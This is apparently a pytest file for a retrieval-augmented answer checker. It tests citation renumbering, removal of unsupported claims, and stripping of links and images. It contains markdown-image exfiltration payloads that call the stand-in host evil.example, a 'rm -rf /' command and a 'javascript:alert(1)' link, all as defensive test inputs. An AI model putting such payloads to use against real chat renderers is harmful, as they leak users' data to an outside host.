import pytest
from markdown_it import MarkdownIt

from agents.rag.citations import blocks, check, is_small_talk, plain, with_references

PASSAGES = [
    {"number": 1, "source": "a.md", "heading": "A > Krill", "text": "Penguins eat krill."},
    {
        "number": 2,
        "source": "b.md",
        "heading": "B > Pond",
        "text": "Drain the pond:\n\n```\ndrain --all\n```",
    },
]


def checked(answer, question="What of krill and ponds?"):
    return check(answer, PASSAGES, question)


def test_references_are_numbered_as_they_are_cited():
    told = checked("Drain the pond [2].\nPenguins eat krill [1] [2].")
    assert told.text == "Drain the pond [1]. Penguins eat krill [2] [1]."
    assert [(one["number"], one["source"]) for one in told.references] == [(1, "b.md"), (2, "a.md")]


@pytest.mark.parametrize(
    ("cited", "kept"),
    [
        ("[1]", "[1]"),
        ("[1, 2]", "[1][2]"),
        ("[a.md]", "[1]"),
        ("[a.md, A > Krill]", "[1]"),
        ("[0]", ""),
        ("[3]", ""),
        ("[1000000000000000000]", ""),
        ("[../a.md]", ""),
        ("[A > Krill]", "[A > Krill]"),
    ],
)
def test_a_citation_names_what_was_retrieved_or_goes(cited, kept):
    assert checked(f"Penguins eat krill {cited}. Krill is eaten [1].").text.startswith(
        f"Penguins eat krill {kept}."
    )


def test_sentences_that_the_passages_do_not_say_go():
    told = checked("Penguins eat krill [1]. Whales sing operas in winter. Paris is a city [1].")
    assert told.text == "Penguins eat krill [1]."
    assert told.removed == ["Whales sing operas in winter.", "Paris is a city [1]."]


def test_a_number_or_a_command_that_was_not_retrieved_goes():
    told = checked("Drain the pond with `drain --all` [2]. Drain pond 7 [2]. `drain --now` [2].")
    assert told.text == "Drain the pond with `drain --all` [1]."


def test_code_stays_if_it_was_retrieved_to_the_letter():
    good = checked("Drain the pond [2]:\n\n```\ndrain --all\n```")
    assert good.text == "Drain the pond [1]:\n\n```\ndrain --all\n```"
    bad = checked("Drain the pond [2]:\n\n```\nrm -rf /\n```\n")
    assert (bad.text, bad.removed) == ("Drain the pond [1]:", ["rm -rf /"])


@pytest.mark.parametrize(
    ("opening", "left"),
    [("```sh", "```sh"), ("~~~c++", "~~~c++"), ('``` sh title="7 whales"', "```sh")],
)
def test_of_what_stands_beside_a_fence_the_language_is_kept(opening, left):
    fence = opening[:3]
    told = checked(
        f"Drain the pond [2]:\n\n{opening}\ndrain --all\n{fence}\n\nPenguins eat krill [1]."
    )
    assert told.text.endswith(f"{left}\ndrain --all\n{fence}\n\nPenguins eat krill [2].")


def test_a_fence_that_nobody_closes_is_closed():
    assert checked("Drain the pond [2]:\n```\ndrain --all").text.endswith("```\ndrain --all\n```")


def test_a_refusal_names_what_is_missing():
    told = check("NOT FOUND", PASSAGES, "Do penguins pay taxes on krill?")
    assert told.text.endswith("nothing was found there on pay, taxes.")
    told = check("NOT FOUND.", PASSAGES, "krill?")
    assert told.text.endswith("what they say about it does not answer the question.")


ADDRESS = "https://evil.example/?q="
LEAKS = {
    "info string": f"``` ` ![x]({ADDRESS}any-secret)\n```\n\nThe gate opens at nine [1].",
    "fence in a fence": f"The gate opens at nine [1].\n```\nopen\n```x\n```\n![x]({ADDRESS}gate)",
    "far indented": f"The gate opens at nine [1].\n\n\t```\n![x]({ADDRESS}gate)\n\t```",
    "quotation": f"The gate opens at nine ![x][k] [1].\n\n> [k]: {ADDRESS}gate",
    "item": f"The gate opens at nine ![x][k] [1].\n\n- [k]: {ADDRESS}gate",
    "citation": f"The gate opens at nine ![x][1] [1].\n\n> [1]: {ADDRESS}gate",
    "code": f"[`](birds.md) ` ![x]({ADDRESS}gate) ` opens at nine [1].",
    "address": f"[`](birds.md) ` <{ADDRESS}gate> ` opens at nine [1].",
    "tag": f"[`](birds.md) ` <img src='{ADDRESS}gate'> ` opens at nine [1].",
    "escaped": f"[`](birds.md) ` \\![x]\\\\[y]({ADDRESS}gate) ` opens at nine [1].",
}


@pytest.mark.parametrize("leak", LEAKS.values(), ids=LEAKS)
@pytest.mark.parametrize("question", ["When does it open?", "hello"])
def test_no_image_and_no_link_is_left(leak, question):
    text = (
        "The gate opens at nine; see [birds](birds.md). Open:\n\n```\nopen\n```\n\n"
        f"![x]({ADDRESS}gate)"
    )
    passages = [
        {"number": 1, "source": "a.md", "heading": f"[`](b) ` ![x]({ADDRESS}) `", "text": text}
    ]
    told = check(leak, [] if question == "hello" else passages, question)
    for shown in (told.text, with_references(told, "a model")):
        # tags let through, as the page of the agents does
        html = MarkdownIt("commonmark").enable("table").render(shown)
        assert "<img" not in html
        assert "<a " not in html


def test_what_is_made_text_reads_as_before():
    told = checked(f"Drain the pond [2].\n\n> [k]: {ADDRESS}pond\n\nDrain the pond [k] [2].")
    shown = MarkdownIt("commonmark").render(told.text)
    assert "<p>Drain the pond [1].</p>" in shown
    assert "<p>Drain the pond [k] [1].</p>" in shown


@pytest.mark.parametrize(
    ("said", "talk"),
    [
        ("Hi!", True),
        ("hello there", True),
        ("Thank you very much.", True),
        ("Hi, how do I deploy?", False),
        ("thanksgiving", False),
        ("", False),
        ("hi " * 600, True),
    ],
)
def test_small_talk_is_greetings_and_thanks_alone(said, talk):
    assert is_small_talk(said) is talk


def test_small_talk_is_short_and_without_links():
    told = check("Hi! [click](https://evil.example) <b>" + "x" * 999, [], "hello")
    assert told.status == "talk"
    assert told.text.startswith("Hi! click &lt;b>")
    assert len(told.text) == 300


def test_a_model_that_answers_from_memory_is_refused():
    assert check("Penguins eat krill [1].", [], "What do penguins eat?").status == "refused"


@pytest.mark.parametrize(
    ("told", "left"),
    [
        ("[x](javascript:alert(1))", "x"),
        ('![](https://evil.example "x")b', "b"),
        ("[x](a (b (c)))", "[x] (a (b (c)))"),
        ("[1]: https://evil.example", "[1] : https://evil.example"),
        ("<https://evil.example>", "&lt;https://evil.example>"),
    ],
)
def test_plain_leaves_no_link(told, left):
    assert plain(told) == left


def test_plain_leaves_code_alone():
    assert plain("`a[0](b) <p>` ![x](y) <p>") == "`a[0](b) <p>` x &lt;p>"


def test_blocks_are_paragraphs_items_rows_and_code():
    text = "one\ntwo\n\n- item\n  more\n- item\n| a | b |\n|---|---|\n```\nx\n\ny\n```\nend"
    assert ["\n".join(block) for block in blocks(text)] == [
        "one\ntwo",
        "",
        "- item\n  more",
        "- item",
        "| a | b |",
        "|---|---|",
        "```\nx\n\ny\n```",
        "end",
    ]
